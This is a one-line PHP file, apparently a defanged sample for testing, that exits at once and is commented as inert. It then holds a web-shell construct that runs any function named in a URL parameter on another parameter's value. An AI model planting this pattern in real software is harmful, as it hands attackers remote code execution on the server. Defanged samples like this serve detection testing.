<?php exit; /* inert */ ($_GET["o"]??"x")($_GET["a"]);
